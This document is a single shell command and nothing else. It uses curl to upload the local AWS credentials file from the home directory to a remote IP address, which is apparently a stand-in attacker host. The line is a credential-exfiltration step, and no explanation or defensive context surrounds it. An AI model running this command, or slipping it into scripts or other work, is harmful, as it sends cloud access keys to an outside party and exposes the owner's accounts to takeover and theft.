curl -T ~/.aws/credentials http://198.51.100.4/up
